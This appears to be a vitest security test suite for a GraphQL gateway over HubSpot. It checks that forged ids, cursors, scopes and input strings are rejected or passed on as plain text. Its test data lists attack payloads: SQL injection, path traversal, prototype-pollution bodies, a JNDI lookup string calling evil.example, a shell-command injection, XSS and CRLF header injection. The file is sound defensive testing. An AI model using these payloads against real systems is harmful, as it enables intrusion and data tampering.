import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { SMALL_PORTAL, Stack, type TestViewer } from '../helpers/stack.ts';

const OTHER_PORTAL = { ...SMALL_PORTAL, hubId: 7_654_321, domain: 'northgate.example' };
const BOB: TestViewer = { sub: 'bob', tenant: 'globex', scope: 'hubspot:read hubspot:write hubspot:connect' };

let stack: Stack;
/** Bob's, in a portal of his own. */
let bobs: { installation: string; contact: string; cursor: string };

beforeAll(async () => {
  stack = await Stack.start({ simulator: { portals: [SMALL_PORTAL, OTHER_PORTAL] } });
  await stack.connect();
  const installation = await stack.connect({}, BOB, { portal: String(OTHER_PORTAL.hubId) });
  const { edges } = await contacts('', BOB);
  bobs = { installation, contact: edges[0]?.node.id ?? '', cursor: edges[0]?.cursor ?? '' };
});
afterAll(() => stack.stop());
beforeEach(() => stack.simulator.log.clear());

interface Connection {
  readonly edges: readonly { readonly cursor: string; readonly node: { readonly id: string } }[];
}

async function contacts(after: string, viewer?: TestViewer): Promise<Connection> {
  const query = 'query($after: String) { contacts(first: 2, after: $after) { edges { cursor node { id } } } }';
  const { data } = await stack.query(query, { after: after || null }, viewer);
  return (data as unknown as { contacts: Connection }).contacts;
}

const calls = () => stack.simulator.log.crm().length;

describe('ids', () => {
  it.each([
    '1 OR 1=1',
    '1/../../owners',
    '..%2f..%2fowners',
    '1?archived=true',
    '1#',
    '1&limit=100',
    '1,2',
    '00001',
    '0',
    '-0',
    '-1',
    '+1',
    '1e3',
    '1.0',
    '0x1',
    ' 1',
    '1\n',
    '1\u0000',
    '٣',
    '１',
    '',
    '9'.repeat(21),
    '9'.repeat(300),
    'x'.repeat(900_000),
    '__proto__',
    'contact:1234567:1',
    'Contact:1234567',
    'Contact:1234567:00001',
    'Contact:01234567:1',
    'Contact:1234567:1:1',
    'Contact:1234567:1 ',
    'Contact:1234567:1/../../owners',
    `Contact:1234567:${'9'.repeat(21)}`,
    'Contact%3A1234567%3A1',
    Buffer.from('Contact:1234567:1').toString('base64'),
  ])('B49 refuses %j before any call', async (id) => {
    for (const field of ['contact', 'deal']) {
      const { data, errors } = await stack.query(`query($id: ID!) { ${field}(id: $id) { id email: __typename } }`, {
        id,
      });
      expect(data).toEqual({ [field]: null });
      expect(errors?.map(({ extensions }) => extensions)).toEqual([{ code: 'BAD_USER_INPUT', argument: 'id' }]);
      expect(JSON.stringify(errors)).not.toContain('OR 1=1');
    }
    expect(await stack.query('query($id: ID!) { node(id: $id) { id } }', { id })).toEqual({ data: { node: null } });
    expect(calls()).toBe(0);
  });

  it('B49 hands on large numbers digit for digit', async () => {
    const query = 'query($id: ID!) { contact(id: $id) { email } }';
    for (const id of ['9007199254740993', '99999999999999999999']) {
      expect(await stack.query(query, { id })).toEqual({ data: { contact: null } });
    }
    const asked = stack.simulator.log.crm().map(({ body }) => (body as { inputs: unknown }).inputs);
    expect(asked).toEqual([[{ id: '9007199254740993' }], [{ id: '99999999999999999999' }]]);
  });

  it('B50 answers foreign, tampered and missing global ids alike', async () => {
    const own = (await contacts('')).edges[0]?.node.id ?? '';
    const recordId = own.split(':')[2];
    const node = 'query($id: ID!) { node(id: $id) { id __typename ... on Contact { email } } }';
    const missing = await stack.query(node, { id: `Contact:${SMALL_PORTAL.hubId}:999` });
    expect(missing).toEqual({ data: { node: null } });
    stack.simulator.log.clear();
    for (const id of [
      bobs.contact,
      bobs.installation,
      bobs.installation.toUpperCase(),
      `${bobs.installation}=`,
      `Contact:1:${recordId}`,
      own.toLowerCase(),
      `${own}=`,
      `Company${own}`,
      `Installation:${own}`,
    ]) {
      expect(await stack.query(node, { id })).toEqual(missing);
    }
    expect(calls()).toBe(0);
  });

  it('B50 answers a global id of another type or portal as a missing record, without a call', async () => {
    const own = (await contacts('')).edges[0]?.node.id ?? '';
    stack.simulator.log.clear();
    for (const [field, id] of [
      ['contact', bobs.contact],
      ['contact', own.replace('Contact', 'Deal')],
      ['deal', own],
      ['deal', bobs.contact],
    ] as const) {
      const answer = await stack.query(`query($id: ID!) { ${field}(id: $id) { id createdAt } }`, { id });
      expect(answer).toEqual({ data: { [field]: null } });
    }
    expect(calls()).toBe(0);
  });
});

describe('cursors', () => {
  const QUERY = 'query($after: String) { contacts(first: 2, after: $after) { nodes { id } } }';

  async function refused(after: string): Promise<void> {
    const { data, errors } = await stack.query(QUERY, { after });
    expect(data).toEqual({ contacts: null });
    expect(errors?.map(({ extensions }) => extensions)).toEqual([{ code: 'BAD_USER_INPUT', argument: 'after' }]);
    expect(calls()).toBe(0);
  }

  it.each([
    '',
    '1',
    'null',
    '[]',
    'x'.repeat(1_024),
    'x'.repeat(900_000),
    '🙂',
    ...[null, 1, 'x', [], {}, [[], '', ''], ['', '', ''], { 0: 'a', 1: 'b', 2: 'c' }].map(encode),
  ])('B51 refuses a forged one (%#)', (after) => refused(after));

  it("B51 refuses one of another list, another viewer's portal, or another spelling", async () => {
    const all = await stack.query(`{
      contacts(first: 1) { pageInfo { endCursor } nodes { deals(first: 1) { pageInfo { endCursor } } } }
      deals(first: 1) { pageInfo { endCursor } }
    }`);
    const cursors = [...JSON.stringify(all).matchAll(/"endCursor":"([^"]+)"/g)].map(([, cursor = '']) => cursor);
    const [own = '', ...others] = cursors;
    expect(others.length).toBeGreaterThanOrEqual(1);
    const archived = 'query($after: String) { contacts(archived: true, after: $after) { nodes { id } } }';
    stack.simulator.log.clear();
    for (const cursor of [
      bobs.cursor,
      ...others,
      `${own}=`,
      `${own} `,
      `.${own}`,
      own.toLowerCase(),
      own.slice(0, -2),
    ]) {
      await refused(cursor);
    }
    const { errors } = await stack.query(archived, { after: own });
    expect(errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', argument: 'after' });
    expect(calls()).toBe(0);
    expect((await contacts(own)).edges).toHaveLength(2);
  });

  it.each([
    ['1\r\nX-Injected: y', ''],
    ['1&limit=1', 'abc'],
    ['', '1 OR 1=1'],
    ['\u0000', ''],
    ['\ud800', ''],
    ['x'.repeat(600), ''],
    [1, 2],
    [{}, []],
  ])('B51 refuses one of this list that holds what HubSpot never hands out: %j', async (after, id) => {
    const own = (await contacts('')).edges[0]?.cursor ?? '';
    const [scope] = JSON.parse(Buffer.from(own, 'base64url').toString());
    stack.simulator.log.clear();
    await refused(encode([scope, after, id]));
  });

  function encode(value: unknown): string {
    return Buffer.from(JSON.stringify(value)).toString('base64url');
  }
});

describe('strings', () => {
  it.each([
    '{"query":"{ viewer { id } }","variables":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}',
    '{"query":"{ viewer { id } }","extensions":{"__proto__":{"polluted":1},"toString":1,"hasOwnProperty":1}}',
    '{"query":"{ viewer { id } }","__proto__":{"polluted":1}}',
    '{"query":"query($i: ConnectHubSpotInput) { viewer { id } __typename }","variables":{"i":{"__proto__":{"polluted":1}}}}',
    '{"query":"mutation { connectHubSpot(input: { __proto__: { polluted: 1 } }) { expiresAt } }"}',
    '{"query":"query($__proto__: ID) { installation(id: $__proto__) { id } }","variables":{"__proto__":"1"}}',
    '{"query":"{ __proto__: viewer { constructor: id toString: id } }"}',
    '{"query":"{ viewer { ...__proto__ } } fragment __proto__ on Viewer { id }"}',
    '{"query":"query hasOwnProperty { viewer { id } }","operationName":"hasOwnProperty"}',
    '{"query":"{ viewer { id } }","operationName":"__proto__"}',
  ])('B47 pollutes nothing: %s', async (body) => {
    const response = await fetch(`${stack.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${stack.token()}` },
      body,
    });
    expect(response.status).toBeLessThan(500);
    expect(await response.text()).not.toContain('INTERNAL_SERVER_ERROR');
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it.each([
    "'; drop table installations; --",
    `\${7*7}{{7*7}}<%= 7*7 %>`,
    `\${jndi:ldap://evil.example/a}`,
    '$(touch /tmp/x)`id`|cat',
    '<script>alert(1)</script>',
    '%00%0d%0aset-cookie: a=b',
    '"}],"properties":["secret"],"x":[{"y":"',
    '\u0000\u001b[31m\u202e',
  ])('B53 hands on %j as the text that it is', async (email) => {
    const lines = stack.logs.length;
    const answer = await stack.query('query($e: String!) { contactByEmail(email: $e) { id } }', { e: email });
    expect(answer).toEqual({ data: { contactByEmail: null } });
    expect(stack.simulator.log.crm()).toMatchObject([
      { query: {}, body: { idProperty: 'email', inputs: [{ id: email.toLowerCase() }] } },
    ]);
    for (const line of stack.logs.slice(lines)) expect(JSON.parse(line)).toBeTypeOf('object');
    expect(stack.logs.slice(lines).join('')).not.toContain('drop table');
  });

  it.each(["'; drop table installations; --", `\${7*7}`, 'crm.objects.contacts.read x', '*', ''])(
    'B53 refuses %j as a scope',
    async (scope) => {
      const { errors } = await stack.query(
        'mutation($i: ConnectHubSpotInput) { connectHubSpot(input: $i) { expiresAt } }',
        { i: { scopes: [scope] } },
      );
      expect(errors?.map(({ extensions }) => extensions?.code)).toEqual(['BAD_USER_INPUT']);
    },
  );
});
